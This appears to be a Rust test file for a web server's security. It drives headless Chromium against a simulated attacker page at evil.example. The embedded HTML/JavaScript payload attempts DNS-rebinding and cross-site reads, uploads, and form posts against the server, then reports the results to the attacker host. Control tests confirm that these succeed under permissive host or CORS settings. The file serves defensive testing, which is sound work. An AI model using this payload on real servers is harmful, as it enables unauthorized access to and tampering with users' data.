//! A real browser: a page whose name was rebound to this server, a page that sends forms, and our own pages under their
//! policy. Beside each stands a control, in which the same gets through.

use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

use crate::helpers::TestApp;

const REPORT: &[u8] = b"time,kw\n2020-01-01 00:00,1.5\n2020-01-01 00:15,2.5\n";
const PATIENCE: Duration = Duration::from_secs(90);

/// Tries everything that a page can, first where it believes to be at home, then at the server's own address; the last
/// thing is a form that needs no script at all. Then tells what came of it.
const ATTACK: &str = r#"<!doctype html><meta charset="utf-8"><iframe name="frame"></iframe><script type="module">
const { target, id, reports } = JSON.parse(decodeURIComponent(location.hash.slice(1)));
const told = {};
const attempt = async (name, work) => {
  try { told[name] = await work(); } catch (error) { told[name] = "refused"; }
};
const form = () => {
  const form = new FormData();
  form.append("files", new Blob(["time,kw\n2020-01-01 00:00,1\n"]), "evil.csv");
  return form;
};
const answer = async (response) => `${response.status} ${await response.text()}`;
await attempt("home_list", async () => answer(await fetch("/api/sessions?deleted=true")));
await attempt("home_upload", async () => answer(await fetch("/api/uploads", { method: "POST", body: form() })));
await attempt("home_restore", async () => answer(await fetch(`/api/sessions/${id}/restore`, { method: "POST" })));
await attempt("away_list", async () => answer(await fetch(`${target}/api/sessions?deleted=true`)));
await attempt("away_upload", async () => {
  await fetch(`${target}/api/uploads`, { method: "POST", body: form(), mode: "no-cors" });
  return "sent";
});
await attempt("away_form", () => new Promise((done) => {
  const plain = document.createElement("form");
  plain.method = "POST";
  plain.action = `${target}/api/sessions/${id}/restore`;
  plain.target = "frame";
  document.body.append(plain);
  document.querySelector("iframe").addEventListener("load", () => done("sent"));
  plain.submit();
}));
await fetch(reports, { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
</script>"#;

/// A server of the attacker: it has the page, hears what came of it, and passes all else on to ours, as a name does that
/// was made to mean another machine: for the browser they are one.
struct Attacker {
    port: u16,
    listener: TcpListener,
    reports: TcpListener,
}

impl Attacker {
    async fn prepare() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let reports = TcpListener::bind("127.0.0.1:0").await.unwrap();
        Self { port: listener.local_addr().unwrap().port(), listener, reports }
    }

    fn origin(&self) -> String {
        format!("http://evil.example:{}", self.port)
    }

    /// Has a browser open the page; what the page tells.
    async fn attack(self, app: &TestApp, id: &str) -> Value {
        let (heard, mut told) = mpsc::channel(1);
        let reports = format!("http://evil.example:{}/", self.reports.local_addr().unwrap().port());
        let target = format!("http://localhost:{}", app.address.port());
        let what = json!({"target": target, "id": id, "reports": reports}).to_string();
        let page = format!("{}/attack#{}", self.origin(), urlencoded(&what));
        let (address, Self { listener, reports, .. }) = (app.address, self);
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                tokio::spawn(page_or_rebound(stream, address));
            }
        });
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = reports.accept().await {
                let (_, body) = request(&mut stream).await;
                let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n").await;
                if let Ok(report) = serde_json::from_slice(&body) {
                    let _ = heard.send(report).await;
                }
            }
        });
        let _browser = Browser::open(&page);
        tokio::time::timeout(PATIENCE, told.recv()).await.expect("the page tells what came of it").unwrap()
    }
}

fn urlencoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Head and body of a request.
async fn request(stream: &mut TcpStream) -> (String, Vec<u8>) {
    let mut bytes = Vec::new();
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, _)) = text.split_once("\r\n\r\n") {
            let length =
                head.to_lowercase().lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok());
            let body = bytes[head.len() + 4..].to_vec();
            if body.len() >= length.unwrap_or(0) {
                return (head.to_owned(), body);
            }
        }
        if stream.read_buf(&mut bytes).await.unwrap_or(0) == 0 {
            return (text, Vec::new());
        }
    }
}

async fn page_or_rebound(mut stream: TcpStream, address: SocketAddr) {
    let mut head = Vec::new();
    while !head.windows(4).any(|end| end == b"\r\n\r\n") {
        if stream.read_buf(&mut head).await.unwrap_or(0) == 0 {
            return;
        }
    }
    if head.starts_with(b"GET /attack") {
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n").await;
        let _ = stream.write_all(ATTACK.as_bytes()).await;
        return;
    }
    let mut ours = TcpStream::connect(address).await.unwrap();
    ours.write_all(&head).await.unwrap();
    let _ = copy_bidirectional(&mut stream, &mut ours).await;
}

/// Chromium without a window, with a profile of its own; gone with its owner.
struct Browser {
    child: Child,
    _profile: TempDir,
}

impl Browser {
    fn command(profile: &TempDir) -> Command {
        let mut command = Command::new("chromium");
        command.args(["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--no-proxy-server"]);
        command.arg("--host-resolver-rules=MAP evil.example 127.0.0.1");
        command.arg(format!("--user-data-dir={}", profile.path().display()));
        command.stdin(Stdio::null());
        command
    }

    fn open(page: &str) -> Self {
        let profile = TempDir::new().unwrap();
        let mut command = Self::command(&profile);
        command.arg(page).stdout(Stdio::null()).stderr(Stdio::null());
        Self { child: command.spawn().expect("chromium"), _profile: profile }
    }

    /// A page's elements once its scripts have run, and what the browser has logged.
    async fn shown(page: String) -> (String, String) {
        let showing = move || {
            let profile = TempDir::new().unwrap();
            let mut command = Self::command(&profile);
            command.args(["--dump-dom", "--enable-logging=stderr", "--v=0", "--virtual-time-budget=20000"]).arg(&page);
            let output = command.output().expect("chromium");
            [output.stdout, output.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).into()
        };
        tokio::task::spawn_blocking(showing).await.unwrap()
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A server with one session, which is deleted: whoever can change something brings it back.
async fn with_deleted(settings: &[(&'static str, &str)]) -> (TestApp, String) {
    let app = TestApp::start_with(settings).await;
    let id = app.uploaded(&[("plant.csv", REPORT)], &[("timezone", "UTC"), ("name", "Not for you")]).await;
    assert_eq!(app.delete(&format!("/api/sessions/{id}")).await.status, 204);
    (app, id)
}

async fn live_sessions(app: &TestApp) -> u64 {
    app.get("/api/sessions").await.expect(200)["total"].as_u64().unwrap()
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium"]
async fn a_page_of_others_reads_and_changes_nothing() {
    let (app, id) = with_deleted(&[]).await;
    let told = Attacker::prepare().await.attack(&app, &id).await;
    for at_home in ["home_list", "home_upload", "home_restore"] {
        let answer = told[at_home].as_str().unwrap();
        assert!(answer.starts_with("421 ") && answer.contains("misdirected_host"), "{at_home}: {told}");
    }
    assert_eq!(
        (&told["away_list"], &told["away_upload"], &told["away_form"]),
        (&json!("refused"), &json!("sent"), &json!("sent"))
    );
    assert!(!told.to_string().contains("Not for you"), "{told}");
    assert_eq!(live_sessions(&app).await, 0, "neither uploaded nor restored: {told}");
}

/// The same page where its name is said to be ours: so a rebound one would read and write.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium"]
async fn the_same_page_does_all_of_it_where_its_host_is_allowed() {
    let (app, id) = with_deleted(&[("ALLOWED_HOSTS", "evil.example")]).await;
    let told = Attacker::prepare().await.attack(&app, &id).await;
    let answer = |name: &str| told[name].as_str().unwrap().to_owned();
    assert!(answer("home_list").starts_with("200 ") && answer("home_list").contains("Not for you"), "{told}");
    assert!(answer("home_upload").starts_with("201 ") && answer("home_restore").starts_with("200 "), "{told}");
    assert_eq!((answer("away_list"), live_sessions(&app).await), ("refused".to_owned(), 2), "{told}");
}

/// The same page where its origin may ask: so its forms would be carried out.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium"]
async fn the_same_page_does_all_of_it_where_its_origin_is_allowed() {
    let attacker = Attacker::prepare().await;
    let (app, id) = with_deleted(&[("CORS_ALLOWED_ORIGINS", &attacker.origin())]).await;
    let told = attacker.attack(&app, &id).await;
    let listed = told["away_list"].as_str().unwrap();
    assert!(listed.starts_with("200 ") && listed.contains("Not for you"), "{told}");
    assert!(told["home_list"].as_str().unwrap().starts_with("421 "), "{told}");
    assert_eq!(live_sessions(&app).await, 2, "uploaded and restored: {told}");
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium"]
async fn our_own_pages_work_under_their_policy() {
    let app = Arc::new(TestApp::start().await);
    app.parsed(&[("plant.csv", REPORT)], &[("timezone", "UTC"), ("name", "Seen by the page")]).await;
    let (docs, log) = Browser::shown(app.url("/docs/")).await;
    let operations = docs.matches("class=\"opblock opblock-").count();
    assert!(operations > 50, "{operations} operations: {log}");
    assert!(!log.contains("Content Security Policy"), "{log}");
    let (page, log) = Browser::shown(app.url("/")).await;
    assert!(page.contains("Seen by the page"), "{page} {log}");
    assert!(!log.contains("Content Security Policy"), "{log}");
    // What the browser refuses, it logs: a picture whose policy lets it take no style.
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let odd = format!("http://{}/", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            request(&mut stream).await;
            let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Security-Policy: style-src 'none'\r\n";
            let page = "Connection: close\r\n\r\n<!doctype html><style>p { color: red }</style><p>Plain</p>";
            let _ = stream.write_all(format!("{head}{page}").as_bytes()).await;
        }
    });
    let (_, log) = Browser::shown(odd).await;
    assert!(log.contains("Content Security Policy"), "{log}");
}
